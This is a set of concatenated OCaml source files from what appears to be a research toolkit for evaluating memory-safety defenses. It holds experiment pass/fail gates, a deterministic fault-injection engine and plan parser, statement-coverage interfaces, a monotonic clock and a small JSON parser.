  { t18_wire; t18_rows; t18_compat; t18_overhead }

let pp_e18 ppf r =
  let w = r.t18_wire in
  Fmt.pf ppf
    "@[<v>E18 — wire-to-verdict observability@,%s@,\
     wire: %d sampled requests traced -> %d trace(s) in the merged export@,\
    \      roots %s  orphans %d  layers %s  queue-wait bounded %b  ring \
     drops %d@,"
    (String.make 100 '-') w.w_traced w.w_traces
    (if w.w_roots_ok then "ok" else "BAD")
    w.w_orphans
    (if w.w_layers_ok then "complete" else "MISSING")
    w.w_queue_ok w.w_dropped;
  let matched = List.length (List.filter (fun x -> x.fr_match) r.t18_rows) in
  Fmt.pf ppf "forensics: %d/%d bundles name the live first corrupting access@,"
    matched (List.length r.t18_rows);
  List.iter
    (fun x ->
      if not x.fr_match then
        Fmt.pf ppf "  %-14s live %a  bundle %a@," x.fr_id
          Fmt.(option ~none:(any "-") (pair ~sep:(any "@@0x") string int))
          x.fr_live
          Fmt.(option ~none:(any "-") (pair ~sep:(any "@@0x") string int))
          x.fr_bundle)
    r.t18_rows;
  let c = r.t18_compat in
  Fmt.pf ppf
    "compat: v1 versions %b  v1 roundtrip %b  v2 roundtrip %b  stats %b@,\
     overhead: baseline %.4fs -> production %.4fs = %.3fx (gate 1.05)@,\
     => %s@]"
    c.c_v1_versions c.c_v1_roundtrip c.c_v2_roundtrip c.c_stats_roundtrip
    r.t18_overhead.ov_baseline_s r.t18_overhead.ov_production_s
    r.t18_overhead.ov_ratio
    (if
       w.w_traced > 0 && w.w_traces = w.w_traced && w.w_roots_ok
       && w.w_orphans = 0 && w.w_layers_ok && w.w_queue_ok && w.w_dropped = 0
       && matched = List.length r.t18_rows
       && c.c_v1_versions && c.c_v1_roundtrip && c.c_v2_roundtrip
       && c.c_stats_roundtrip
       && r.t18_overhead.ov_ratio <= 1.05
     then "observability gate holds"
     else "OBSERVABILITY GATE FAILS")

(* ------------------------------------------------------------------ *)
(* Pass/fail verdicts per experiment, so callers (the CLI in
   particular) can turn a regressed experiment into a non-zero exit. *)

let e1_ok rows =
  List.for_all (fun (r : Driver.result) -> r.Driver.verdict.Catalog.success) rows

let e2_e3_ok trials =
  match trials with
  | [ naive_none; naive_sg; sel_none; sel_sg ] ->
    naive_none.hijacked && naive_sg.detected && sel_none.hijacked
    && sel_sg.hijacked
    && not sel_sg.detected
  | _ -> false

let e4_ok rows =
  List.for_all
    (fun r ->
      if r.leak_config = "sanitize" then not r.secret_leaked
      else r.secret_leaked)
    rows

let e5_ok rows =
  (* work grows monotonically with the forced bound, ending in a DoS *)
  let rec mono = function
    | a :: (b :: _ as tl) -> a.steps <= b.steps && mono tl
    | _ -> true
  in
  mono rows
  && (match List.rev rows with
     | last :: _ -> (
       match last.status with Outcome.Timeout _ -> true | _ -> false)
     | [] -> false)

let e6_ok rows = List.for_all (fun r -> r.leaked = r.predicted) rows

let e7_ok rows =
  (* the placement checker dominates the legacy baseline and never flags
     a hardened twin *)
  List.for_all (fun r -> r.hardened_clean <> Some false) rows
  && List.for_all (fun r -> (not r.legacy) || r.ours) rows

let e8_matrix_ok matrix =
  (* with defenses off every attack wins; and a win never coexists with a
     defense claiming to have blocked that same run *)
  List.for_all
    (fun (_, cells) ->
      List.for_all
        (fun ((c : Config.t), cell) ->
          if c.Config.name = "none" then cell = Win else true)
        cells)
    matrix

let e8_overhead_ok rows =
  List.for_all (fun (_, status, _) -> match status with Outcome.Exited _ -> true | _ -> false) rows

let e9_ok rows =
  rows <> []
  && List.for_all (fun r -> (not r.ch_escaped) && r.ch_detect_ok) rows

let e10_ok t =
  t.f_exploited = 0 && t.directed_works && t.statically_flagged

let e11_ok rows = List.for_all (fun r -> r.residual_flagged) rows

let e12_ok r =
  (* parallel substitution is sound (identical verdicts) and the memo
     cache actually pays for itself on the repeated benign stream *)
  r.sr_agree && r.sr_memo_speedup >= 2.0

let e13_ok r =
  r.t13_overhead.ov_ratio <= 1.05
  && List.for_all (fun t -> t.tr_complete && t.tr_blocking_seen) r.t13_rows
  && r.t13_dropped = 0

let e14_ok r =
  List.for_all e14_row_ok r.t14_rows
  && List.for_all (fun c -> c.cl_records = 0) r.t14_clean
  && r.t14_overhead.ov_ratio <= 1.05

(* The scaling gate adapts to the host: with enough cores for the
   largest worker count the pool must actually be faster (2x at 4+
   domains now that rewinds are dirty-page blits and dispatch is
   per-worker deques, 1.2x at 2-3 — parallel overheads eat more of a
   2-way run); oversubscribed hosts (CI smoke on small runners, 1-core
   dev boxes) only have to bound the anti-scaling — domains that fight
   for one core may lose ground to context switches and GC rendezvous,
   but a healthy pool loses at most 2.5x, not the ~6x an untuned minor
   heap costs. *)
let e15_scale_ok ~cores rows =
  match rows with
  | first :: (_ :: _ as rest) ->
    let last = List.nth rest (List.length rest - 1) in
    let speedup =
      if last.sc_seconds > 0. then first.sc_seconds /. last.sc_seconds
      else Float.infinity
    in
    if cores >= last.sc_jobs then
      speedup >= (if last.sc_jobs >= 4 then 2.0 else 1.2)
    else speedup >= 1. /. 2.5
  | _ -> true

let e15_ok r =
  List.for_all e15_equiv_row_ok r.t15_rows
  && r.t15_pool_agree
  && r.t15_speed.fs_ratio >= 3.0
  && e15_scale_ok ~cores:r.t15_cores r.t15_scale

(* The wire gate: every request accounted for with none hung, no
   spurious rejections on the clean run, every malformed frame answered
   or closed with the server still alive, chaos-soaked replies
   signature-identical to the in-process driver, and a real latency
   distribution. The latency ceilings are deliberately generous
   multiples of the committed 1-core BENCH_net.json baseline (p50
   ~0.9ms warm, ~116ms under the mixed load) — they are not a perf
   benchmark but a collapse detector: a retry death-spiral or a stalled
   select loop pushes p99 past seconds, and that must fail the gate on
   any host. *)
let e16_p50_ceiling_us = 1_000_000.
let e16_p99_ceiling_us = 5_000_000.

let e16_ok r =
  let load = r.t16_load and chaos = r.t16_chaos and fuzz = r.t16_fuzz in
  lg_accounted load && lg_accounted chaos
  && load.Loadgen.lg_hung = 0
  && chaos.Loadgen.lg_hung = 0
  && load.Loadgen.lg_sig_conflicts = 0
  && chaos.Loadgen.lg_sig_conflicts = 0
  && lg_rejected_count load = 0
  && load.Loadgen.lg_served > 0
  && chaos.Loadgen.lg_served > 0
  && fuzz.nf_hung = 0 && fuzz.nf_alive
  && fuzz.nf_rejected + fuzz.nf_closed = fuzz.nf_frames
  && r.t16_agree = r.t16_total && r.t16_total > 0
  && load.Loadgen.lg_p50_us > 0.
  && load.Loadgen.lg_p50_us <= load.Loadgen.lg_p99_us
  && load.Loadgen.lg_p50_us <= e16_p50_ceiling_us
  && load.Loadgen.lg_p99_us <= e16_p99_ceiling_us

(* The observability gate: every sampled request's spans merge into one
   connected tree with nothing dropped, every forensic bundle agrees
   with the live oracle on the first corrupting access, old frames
   still decode, and the disabled machinery stays within 5%. *)
let e18_ok r =
  let w = r.t18_wire and c = r.t18_compat in
  w.w_traced > 0 && w.w_traces = w.w_traced && w.w_roots_ok
  && w.w_orphans = 0 && w.w_layers_ok && w.w_queue_ok && w.w_dropped = 0
  && r.t18_rows <> []
  && List.for_all (fun x -> x.fr_match) r.t18_rows
  && List.exists (fun x -> x.fr_live <> None) r.t18_rows
  && c.c_v1_versions && c.c_v1_roundtrip && c.c_v2_roundtrip
  && c.c_stats_roundtrip
  && r.t18_overhead.ov_ratio <= 1.05

(* ------------------------------------------------------------------ *)

let run_all ppf () =
  Fmt.pf ppf "%a@.@.%a@.@.%a@.@.%a@.@.%a@.@.%a@.@.%a@.@.%a@.@.%a@." pp_e1
    (e1 ()) pp_e2_e3 (e2_e3 ()) pp_e4 (e4 ()) pp_e5 (e5 ()) pp_e6 (e6 ())
    pp_e7 (e7 ()) pp_e8_matrix (e8_matrix ()) pp_e8_overhead (e8_overhead ())
    pp_e9 (e9 ());
  Fmt.pf ppf "@.%a@.@.%a@.@.%a@.@.%a@.@.%a@.@.%a@." pp_e10 (e10 ()) pp_e11
    (e11 ()) pp_e12 (e12 ()) pp_e13 (e13 ()) pp_e14 (e14 ()) pp_e15 (e15 ());
  (* the wire gate at a sampling request count — the full host-adaptive
     run is the dedicated [e16] / netgate entry point *)
  Fmt.pf ppf "@.%a@." pp_e16 (e16 ~requests:20_000 ~chaos_requests:600 ());
  Fmt.pf ppf "@.%a@." pp_e18 (e18 ())
