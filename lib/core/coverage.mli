(** Statement-level execution profiling over the interpreter's [on_stmt]
    hook: which functions ran, how many statements of each kind. *)

type t = {
  per_func : (string, int) Hashtbl.t;
  per_kind : (string, int) Hashtbl.t;
  mutable total : int;
}

val create : unit -> t

val hook : t -> string -> Pna_minicpp.Ast.stmt -> unit
(** Feed this to {!Pna_minicpp.Interp.run}'s [on_stmt]. *)

val collector : unit -> t * (string -> Pna_minicpp.Ast.stmt -> unit)
(** A fresh collector and its hook, in one call. *)

type func_row = {
  cf_name : string;
  cf_executed : int;  (** dynamic count, with repeats *)
  cf_static : int;  (** statements in the body *)
  cf_entered : bool;
}

val report : t -> Pna_minicpp.Ast.program -> func_row list
val functions_entered : t -> int
val pp : Format.formatter -> t * Pna_minicpp.Ast.program -> unit

(** {1 Per-statement hit counts}

    Site-level coverage for the scenario generator's feedback loop: every
    statement of the program gets an index (in [fold_program] order,
    matched by physical identity), and the hook counts executions per
    site. *)

type bitmap

val bitmap : Pna_minicpp.Ast.program -> bitmap * (string -> Pna_minicpp.Ast.stmt -> unit)
(** A zeroed bitmap over the program's statements plus the [on_stmt]
    hook that feeds it. *)

val sites : bitmap -> int
(** Static statement count the bitmap covers. *)

val hits : bitmap -> int
(** Distinct sites with a nonzero count. *)

val hit_count : bitmap -> int -> int
(** Executions of one site. @raise Invalid_argument on a bad index. *)

val hit_sites : bitmap -> int list
(** Indices with nonzero counts, ascending. *)

val site_label : bitmap -> int -> string
(** Stable ["func#idx:kind"] label for feature strings. *)

val reset : bitmap -> unit
(** Zero every count, keeping the site table. *)

val merge : into:bitmap -> bitmap -> int
(** Add [bm]'s counts into [into]; returns how many sites lit up for the
    first time. @raise Invalid_argument when the site tables differ in
    size (bitmaps of different programs). *)
