(** The fault-injection engine: executes a {!Plan} against one machine.

    Every fault in a plan is one-shot — it fires at most once for the
    lifetime of the engine, even across supervised retries. That is what
    makes retrying meaningful (a transient fault does not recur) and
    keeps replays deterministic (the same plan fires the same faults in
    the same order). Access and allocation counters likewise run across
    the whole supervised lifetime, never resetting between attempts. *)

module Fault = Pna_vmem.Fault
module Machine = Pna_machine.Machine
module Wire = Pna_serial.Wire

type t = {
  plan : Plan.t;
  mutable pending : Plan.fault list;  (** not yet fired *)
  mutable fired : string list;  (** labels, newest first *)
  mutable accesses : int;
  mutable allocs : int;
  mutable sends : int;
}

let create plan =
  { plan; pending = plan.Plan.faults; fired = []; accesses = 0; allocs = 0;
    sends = 0 }

let plan t = t.plan
let fired t = List.rev t.fired

(* Remove [f] from the pending set (first occurrence) and record it. *)
let spend t f =
  let rec drop = function
    | [] -> []
    | x :: tl -> if x = f then tl else x :: drop tl
  in
  t.pending <- drop t.pending;
  t.fired <- Plan.fault_label f :: t.fired

let find_pending t p = List.find_opt p t.pending

(* the address a spurious fault pretends to touch: unmapped guard page
   below the stack, so the report reads like a wild access *)
let spurious_addr = 0xbf000000

let mem_hook t ~access ~addr ~byte =
  ignore addr;
  ignore access;
  let i = t.accesses in
  t.accesses <- t.accesses + 1;
  match
    find_pending t (function
      | Plan.Flip_bit { at_access; _ } -> at_access = i
      | _ -> false)
  with
  | Some (Plan.Flip_bit { bit; _ } as f) ->
    spend t f;
    byte lxor (1 lsl bit)
  | _ -> byte

let alloc_hook t _size =
  let i = t.allocs in
  t.allocs <- t.allocs + 1;
  match
    find_pending t (function
      | Plan.Fail_alloc { at_alloc } -> at_alloc = i
      | _ -> false)
  with
  | Some f ->
    spend t f;
    true
  | None -> false

let arm t m =
  Machine.set_chaos m (Some (fun ~access ~addr ~byte -> mem_hook t ~access ~addr ~byte));
  Machine.set_chaos_alloc m (Some (alloc_hook t))

let tick t step =
  match
    find_pending t (function
      | Plan.Raise_fault { at_step } -> at_step = step
      | _ -> false)
  with
  | Some f ->
    spend t f;
    Fault.raise_ (Fault.Unmapped (spurious_addr, Fault.Read))
  | None -> ()

let budget t ~default =
  match
    find_pending t (function Plan.Budget_jitter _ -> true | _ -> false)
  with
  | Some (Plan.Budget_jitter { pct } as f) ->
    spend t f;
    max 1_000 (default * pct / 100)
  | _ -> default

(* Wire faults perturb the first datagram of the input stream — the
   enrollment victims read exactly one. Faults apply in plan order;
   duplication prepends a second copy of the (already perturbed) head. *)
let perturb_strings t strings =
  match strings with
  | [] -> strings
  | head :: rest ->
    let head = ref head
    and dup = ref false in
    List.iter
      (fun f ->
        match f with
        | Plan.Wire_truncate { keep } ->
          if List.mem f t.pending then begin
            spend t f;
            head := Wire.truncate_datagram ~keep !head
          end
        | Plan.Wire_corrupt { pos; mask } ->
          if List.mem f t.pending then begin
            spend t f;
            head := Wire.flip_byte ~pos ~mask !head
          end
        | Plan.Wire_duplicate ->
          if List.mem f t.pending then begin
            spend t f;
            dup := true
          end
        | _ -> ())
      t.plan.Plan.faults;
    if !dup then !head :: !head :: rest else !head :: rest

(* -- socket faults: pure decisions, executed by the net layer ------------ *)

(** What a chaotic network does to one socket send. The engine owns no
    file descriptors (this library stays unix-free): it returns a script
    of steps and the caller performs them — write the bytes, stall, or
    abort the connection. [Reset] is always the final step of its
    script. *)
type send_step =
  | Send of string  (** write these bytes *)
  | Delay_ms of int  (** stall this many milliseconds *)
  | Reset  (** abort the connection; nothing further is sent *)

(* Faults targeting the same send compose deterministically: corruption
   rewrites the bytes first, a reset truncates and ends the script, an
   (un-reset) split halves it, and delays prepend. Like every other
   fault they are one-shot — the [at_send] index runs across the
   engine's whole lifetime. *)
let on_send t data =
  let i = t.sends in
  t.sends <- t.sends + 1;
  let data = ref data in
  let delay = ref 0 and split = ref None and reset = ref None in
  List.iter
    (fun f ->
      if List.mem f t.pending then
        match f with
        | Plan.Sock_corrupt { at_send; pos; mask } when at_send = i ->
          spend t f;
          data := Wire.flip_byte ~pos ~mask !data
        | Plan.Sock_delay { at_send; ms } when at_send = i ->
          spend t f;
          delay := !delay + ms
        | Plan.Sock_split { at_send; at_byte; ms } when at_send = i ->
          spend t f;
          split := Some (at_byte, ms)
        | Plan.Sock_reset { at_send; after_bytes } when at_send = i ->
          spend t f;
          reset := Some after_bytes
        | _ -> ())
    t.plan.Plan.faults;
  let steps =
    match !reset with
    | Some keep ->
      let keep = min (max 0 keep) (String.length !data) in
      if keep = 0 then [ Reset ] else [ Send (String.sub !data 0 keep); Reset ]
    | None -> (
      match !split with
      | Some (at, ms) when String.length !data > 1 ->
        let at = 1 + (abs at mod (String.length !data - 1)) in
        [
          Send (String.sub !data 0 at);
          Delay_ms ms;
          Send (String.sub !data at (String.length !data - at));
        ]
      | _ -> [ Send !data ])
  in
  if !delay > 0 then Delay_ms !delay :: steps else steps

let sends t = t.sends
