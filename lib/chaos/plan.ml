(** Deterministic fault plans.

    A plan is a seed plus a list of injections, each indexed by the site
    where it fires: the nth checked memory access, the nth heap
    allocation, an interpreter step, or the datagram on the wire. Plans
    are pure data — generating one from a seed, dumping it to text and
    parsing it back are all deterministic, so any chaotic run can be
    replayed byte-for-byte from its plan alone. *)

type fault =
  | Flip_bit of { at_access : int; bit : int }
      (** XOR bit [bit] into the byte moved by the [at_access]th checked
          memory access — a one-shot memory bit flip. *)
  | Fail_alloc of { at_alloc : int }
      (** The [at_alloc]th heap allocation fails as if memory ran out. *)
  | Raise_fault of { at_step : int }
      (** A spurious MMU fault at interpreter step [at_step]. *)
  | Budget_jitter of { pct : int }
      (** Shrink the step budget to [pct] percent of the default. *)
  | Wire_truncate of { keep : int }
      (** Deliver only the first [keep] bytes of the datagram. *)
  | Wire_corrupt of { pos : int; mask : int }
      (** XOR [mask] into the datagram byte at [pos]. *)
  | Wire_duplicate  (** Deliver the datagram twice. *)
  | Sock_delay of { at_send : int; ms : int }
      (** Stall [ms] milliseconds before the [at_send]th socket send. *)
  | Sock_split of { at_send : int; at_byte : int; ms : int }
      (** Split the [at_send]th socket send at byte [at_byte] with an
          [ms]-millisecond stall between the halves — the receiver sees a
          partial read. *)
  | Sock_corrupt of { at_send : int; pos : int; mask : int }
      (** XOR [mask] into byte [pos] of the [at_send]th socket send — a
          corrupt frame on the wire. *)
  | Sock_reset of { at_send : int; after_bytes : int }
      (** Deliver only the first [after_bytes] bytes of the [at_send]th
          socket send, then reset the connection. *)

type t = { seed : int; faults : fault list }

let empty seed = { seed; faults = [] }

(* Generation: the fault mix below is tuned so that every category shows
   up within a few dozen seeds while most plans stay small (1-3 faults),
   keeping perturbed runs close enough to the baseline for the
   degradation oracle to be meaningful. [~sock] widens the pick to the
   socket fault classes; it is off by default so seeded sweeps over the
   original fault set (E9 in particular) stay within it. Plans draw from
   the shared SplitMix64 stream, so a (seed, rate, sock) triple fully
   determines the plan independent of the stdlib generator. *)
let generate ?(rate = 1.0) ?(sock = false) ~seed () =
  let module R = Pna_rand.Rand in
  let st = R.create (seed lxor 0x9a057e57) in
  let n = max 1 (int_of_float (rate *. 3.0 *. R.float st)) in
  let pick () =
    match R.int st (if sock then 11 else 7) with
    | 0 -> Flip_bit { at_access = R.int st 20_000; bit = R.int st 8 }
    | 1 -> Fail_alloc { at_alloc = R.int st 6 }
    | 2 -> Raise_fault { at_step = 1 + R.int st 4_000 }
    | 3 -> Budget_jitter { pct = 5 + R.int st 75 }
    | 4 -> Wire_truncate { keep = R.int st 36 }
    | 5 -> Wire_corrupt { pos = R.int st 64; mask = 1 + R.int st 255 }
    | 6 -> Wire_duplicate
    | 7 -> Sock_delay { at_send = R.int st 24; ms = 1 + R.int st 20 }
    | 8 ->
      Sock_split
        { at_send = R.int st 24; at_byte = 1 + R.int st 64; ms = R.int st 5 }
    | 9 ->
      Sock_corrupt
        { at_send = R.int st 24; pos = R.int st 80; mask = 1 + R.int st 255 }
    | _ -> Sock_reset { at_send = R.int st 24; after_bytes = R.int st 48 }
  in
  { seed; faults = List.init n (fun _ -> pick ()) }

let fault_label = function
  | Flip_bit { at_access; bit } -> Fmt.str "flip-bit access %d bit %d" at_access bit
  | Fail_alloc { at_alloc } -> Fmt.str "fail-alloc nth %d" at_alloc
  | Raise_fault { at_step } -> Fmt.str "raise-fault step %d" at_step
  | Budget_jitter { pct } -> Fmt.str "budget-jitter pct %d" pct
  | Wire_truncate { keep } -> Fmt.str "wire-truncate keep %d" keep
  | Wire_corrupt { pos; mask } -> Fmt.str "wire-corrupt pos %d mask %d" pos mask
  | Wire_duplicate -> "wire-duplicate"
  | Sock_delay { at_send; ms } -> Fmt.str "sock-delay send %d ms %d" at_send ms
  | Sock_split { at_send; at_byte; ms } ->
    Fmt.str "sock-split send %d byte %d ms %d" at_send at_byte ms
  | Sock_corrupt { at_send; pos; mask } ->
    Fmt.str "sock-corrupt send %d pos %d mask %d" at_send pos mask
  | Sock_reset { at_send; after_bytes } ->
    Fmt.str "sock-reset send %d after %d" at_send after_bytes

let to_string t =
  String.concat "\n"
    (Fmt.str "seed %d" t.seed :: List.map fault_label t.faults)
  ^ "\n"

let pp ppf t = Fmt.string ppf (to_string t)

let fault_of_line line =
  match String.split_on_char ' ' (String.trim line) with
  | [ "flip-bit"; "access"; a; "bit"; b ] -> (
    match (int_of_string_opt a, int_of_string_opt b) with
    | Some at_access, Some bit -> Ok (Flip_bit { at_access; bit })
    | _ -> Error (Fmt.str "bad flip-bit line: %S" line))
  | [ "fail-alloc"; "nth"; a ] -> (
    match int_of_string_opt a with
    | Some at_alloc -> Ok (Fail_alloc { at_alloc })
    | None -> Error (Fmt.str "bad fail-alloc line: %S" line))
  | [ "raise-fault"; "step"; s ] -> (
    match int_of_string_opt s with
    | Some at_step -> Ok (Raise_fault { at_step })
    | None -> Error (Fmt.str "bad raise-fault line: %S" line))
  | [ "budget-jitter"; "pct"; p ] -> (
    match int_of_string_opt p with
    | Some pct -> Ok (Budget_jitter { pct })
    | None -> Error (Fmt.str "bad budget-jitter line: %S" line))
  | [ "wire-truncate"; "keep"; k ] -> (
    match int_of_string_opt k with
    | Some keep -> Ok (Wire_truncate { keep })
    | None -> Error (Fmt.str "bad wire-truncate line: %S" line))
  | [ "wire-corrupt"; "pos"; p; "mask"; m ] -> (
    match (int_of_string_opt p, int_of_string_opt m) with
    | Some pos, Some mask -> Ok (Wire_corrupt { pos; mask })
    | _ -> Error (Fmt.str "bad wire-corrupt line: %S" line))
  | [ "wire-duplicate" ] -> Ok Wire_duplicate
  | [ "sock-delay"; "send"; s; "ms"; m ] -> (
    match (int_of_string_opt s, int_of_string_opt m) with
    | Some at_send, Some ms -> Ok (Sock_delay { at_send; ms })
    | _ -> Error (Fmt.str "bad sock-delay line: %S" line))
  | [ "sock-split"; "send"; s; "byte"; b; "ms"; m ] -> (
    match (int_of_string_opt s, int_of_string_opt b, int_of_string_opt m) with
    | Some at_send, Some at_byte, Some ms ->
      Ok (Sock_split { at_send; at_byte; ms })
    | _ -> Error (Fmt.str "bad sock-split line: %S" line))
  | [ "sock-corrupt"; "send"; s; "pos"; p; "mask"; m ] -> (
    match (int_of_string_opt s, int_of_string_opt p, int_of_string_opt m) with
    | Some at_send, Some pos, Some mask ->
      Ok (Sock_corrupt { at_send; pos; mask })
    | _ -> Error (Fmt.str "bad sock-corrupt line: %S" line))
  | [ "sock-reset"; "send"; s; "after"; a ] -> (
    match (int_of_string_opt s, int_of_string_opt a) with
    | Some at_send, Some after_bytes -> Ok (Sock_reset { at_send; after_bytes })
    | _ -> Error (Fmt.str "bad sock-reset line: %S" line))
  | _ -> Error (Fmt.str "unrecognised fault line: %S" line)

let of_string s : (t, string) result =
  let lines =
    List.filter
      (fun l -> String.trim l <> "")
      (String.split_on_char '\n' s)
  in
  match lines with
  | [] -> Error "empty plan"
  | first :: rest -> (
    match String.split_on_char ' ' (String.trim first) with
    | [ "seed"; s ] -> (
      match int_of_string_opt s with
      | None -> Error (Fmt.str "bad seed line: %S" first)
      | Some seed ->
        let rec parse acc = function
          | [] -> Ok { seed; faults = List.rev acc }
          | l :: tl -> (
            match fault_of_line l with
            | Ok f -> parse (f :: acc) tl
            | Error _ as e -> e)
        in
        parse [] rest)
    | _ -> Error (Fmt.str "plan must start with a seed line, got %S" first))
