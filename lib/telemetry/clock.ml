(** Monotonic time for interval measurement.

    Wall-clock ([Unix.gettimeofday]) steps under NTP and can run
    backwards, which turned queue-wait observations negative; every
    duration in the telemetry and service layers is measured on
    [CLOCK_MONOTONIC] instead. The raw reading is an [int64] nanosecond
    count from an arbitrary origin — only differences are meaningful. *)

let now_ns () : int64 = Monotonic_clock.now ()

(* Difference [b - a] in microseconds; [b] was sampled after [a], so on a
   monotonic clock the result is always >= 0. *)
let elapsed_us ~a ~b = Int64.to_float (Int64.sub b a) /. 1e3

let elapsed_s ~a ~b = Int64.to_float (Int64.sub b a) /. 1e9
