(** A minimal JSON value type with a printer and a parser.

    The telemetry layer is deliberately zero-dependency, so it carries its
    own JSON: enough to emit Chrome Trace Event files and JSONL event
    streams, and to parse them back in tests (the acceptance criterion is
    a unit test that re-reads an exported trace). Strings are treated as
    byte strings: control characters are escaped as [\u00XX] and
    re-decoded by the parser, so arbitrary OCaml strings round-trip. *)

type t =
  | Null
  | Bool of bool
  | Int of int
  | Float of float
  | Str of string
  | List of t list
  | Obj of (string * t) list

(* ------------------------------------------------------------------ *)
(* Printing                                                            *)

let escape_to b s =
  String.iter
    (fun c ->
      match c with
      | '"' -> Buffer.add_string b "\\\""
      | '\\' -> Buffer.add_string b "\\\\"
      | '\n' -> Buffer.add_string b "\\n"
      | '\t' -> Buffer.add_string b "\\t"
      | '\r' -> Buffer.add_string b "\\r"
      | c when Char.code c < 0x20 ->
        Buffer.add_string b (Printf.sprintf "\\u%04x" (Char.code c))
      | c -> Buffer.add_char b c)
    s

let rec write b = function
  | Null -> Buffer.add_string b "null"
  | Bool v -> Buffer.add_string b (if v then "true" else "false")
  | Int v -> Buffer.add_string b (string_of_int v)
  | Float v ->
    if Float.is_finite v then
      (* %.17g round-trips IEEE doubles; trim to a parseable literal *)
      Buffer.add_string b (Printf.sprintf "%.17g" v)
    else Buffer.add_string b "null"
  | Str s ->
    Buffer.add_char b '"';
    escape_to b s;
    Buffer.add_char b '"'
  | List items ->
    Buffer.add_char b '[';
    List.iteri
      (fun i item ->
        if i > 0 then Buffer.add_char b ',';
        write b item)
      items;
    Buffer.add_char b ']'
  | Obj fields ->
    Buffer.add_char b '{';
    List.iteri
      (fun i (k, v) ->
        if i > 0 then Buffer.add_char b ',';
        Buffer.add_char b '"';
        escape_to b k;
        Buffer.add_string b "\":";
        write b v)
      fields;
    Buffer.add_char b '}'

let to_string t =
  let b = Buffer.create 256 in
  write b t;
  Buffer.contents b

let pp ppf t = Fmt.string ppf (to_string t)

(* ------------------------------------------------------------------ *)
(* Parsing: a small recursive-descent parser over the byte string.      *)

exception Parse_error of string

let parse_error fmt = Fmt.kstr (fun s -> raise (Parse_error s)) fmt

type cursor = { src : string; mutable pos : int }

let peek c = if c.pos < String.length c.src then Some c.src.[c.pos] else None

let advance c = c.pos <- c.pos + 1

let skip_ws c =
  let rec go () =
    match peek c with
    | Some (' ' | '\t' | '\n' | '\r') ->
      advance c;
      go ()
    | _ -> ()
  in
  go ()

let expect c ch =
  match peek c with
  | Some x when x = ch -> advance c
  | Some x -> parse_error "at %d: expected %c, found %c" c.pos ch x
  | None -> parse_error "at %d: expected %c, found end of input" c.pos ch

let hex_digit = function
  | '0' .. '9' as c -> Char.code c - Char.code '0'
  | 'a' .. 'f' as c -> Char.code c - Char.code 'a' + 10
  | 'A' .. 'F' as c -> Char.code c - Char.code 'A' + 10
  | c -> parse_error "invalid hex digit %c" c

let parse_string c =
  expect c '"';
  let b = Buffer.create 16 in
  let rec go () =
    match peek c with
    | None -> parse_error "unterminated string"
    | Some '"' -> advance c
    | Some '\\' -> (
      advance c;
      match peek c with
      | None -> parse_error "unterminated escape"
      | Some esc ->
        advance c;
        (match esc with
        | '"' -> Buffer.add_char b '"'
        | '\\' -> Buffer.add_char b '\\'
        | '/' -> Buffer.add_char b '/'
        | 'n' -> Buffer.add_char b '\n'
        | 't' -> Buffer.add_char b '\t'
        | 'r' -> Buffer.add_char b '\r'
        | 'b' -> Buffer.add_char b '\b'
        | 'f' -> Buffer.add_char b '\012'
        | 'u' ->
          if c.pos + 4 > String.length c.src then
            parse_error "truncated \\u escape";
          let v =
            (hex_digit c.src.[c.pos] lsl 12)
            lor (hex_digit c.src.[c.pos + 1] lsl 8)
            lor (hex_digit c.src.[c.pos + 2] lsl 4)
            lor hex_digit c.src.[c.pos + 3]
          in
          c.pos <- c.pos + 4;
          if v < 0x100 then Buffer.add_char b (Char.chr v)
          else parse_error "\\u%04x outside the byte-string range" v
        | e -> parse_error "invalid escape \\%c" e);
        go ())
    | Some ch ->
      advance c;
      Buffer.add_char b ch;
      go ()
  in
  go ();
  Buffer.contents b

let parse_number c =
  let start = c.pos in
  let is_num_char = function
    | '0' .. '9' | '-' | '+' | '.' | 'e' | 'E' -> true
    | _ -> false
  in
  let rec go () =
    match peek c with
    | Some ch when is_num_char ch ->
      advance c;
      go ()
    | _ -> ()
  in
  go ();
  let lit = String.sub c.src start (c.pos - start) in
  if String.exists (fun ch -> ch = '.' || ch = 'e' || ch = 'E') lit then
    match float_of_string_opt lit with
    | Some v -> Float v
    | None -> parse_error "invalid number %S" lit
  else
    match int_of_string_opt lit with
    | Some v -> Int v
    | None -> parse_error "invalid number %S" lit

let parse_literal c lit value =
  if
    c.pos + String.length lit <= String.length c.src
    && String.sub c.src c.pos (String.length lit) = lit
  then begin
    c.pos <- c.pos + String.length lit;
    value
  end
  else parse_error "at %d: invalid literal" c.pos

let rec parse_value c =
  skip_ws c;
  match peek c with
  | None -> parse_error "unexpected end of input"
  | Some '"' -> Str (parse_string c)
  | Some 't' -> parse_literal c "true" (Bool true)
  | Some 'f' -> parse_literal c "false" (Bool false)
  | Some 'n' -> parse_literal c "null" Null
  | Some '[' ->
    advance c;
    skip_ws c;
    if peek c = Some ']' then begin
      advance c;
      List []
    end
    else
      let rec items acc =
        let v = parse_value c in
        skip_ws c;
        match peek c with
        | Some ',' ->
          advance c;
          items (v :: acc)
        | Some ']' ->
          advance c;
          List (List.rev (v :: acc))
        | _ -> parse_error "at %d: expected , or ] in array" c.pos
      in
      items []
  | Some '{' ->
    advance c;
    skip_ws c;
    if peek c = Some '}' then begin
      advance c;
      Obj []
    end
    else
      let rec fields acc =
        skip_ws c;
        let k = parse_string c in
        skip_ws c;
        expect c ':';
        let v = parse_value c in
        skip_ws c;
        match peek c with
        | Some ',' ->
          advance c;
          fields ((k, v) :: acc)
        | Some '}' ->
          advance c;
          Obj (List.rev ((k, v) :: acc))
        | _ -> parse_error "at %d: expected , or } in object" c.pos
      in
      fields []
  | Some ('-' | '0' .. '9') -> parse_number c
  | Some ch -> parse_error "at %d: unexpected character %c" c.pos ch

let of_string s =
  let c = { src = s; pos = 0 } in
  match parse_value c with
  | v ->
    skip_ws c;
    if c.pos <> String.length s then
      Error (Fmt.str "trailing bytes at offset %d" c.pos)
    else Ok v
  | exception Parse_error msg -> Error msg

(* ------------------------------------------------------------------ *)
(* Accessors, for tests that re-read exported artifacts                 *)

let member key = function Obj fields -> List.assoc_opt key fields | _ -> None

let to_int = function Int v -> Some v | _ -> None
let to_float = function Float v -> Some v | Int v -> Some (float_of_int v) | _ -> None
let to_str = function Str s -> Some s | _ -> None
let to_bool = function Bool b -> Some b | _ -> None
let to_list = function List l -> Some l | _ -> None
