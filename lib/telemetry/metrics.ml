(** The metrics registry: named counters, gauges, and log2-bucketed
    histograms.

    Instruments are keyed by [(name, labels)] and interned on first use,
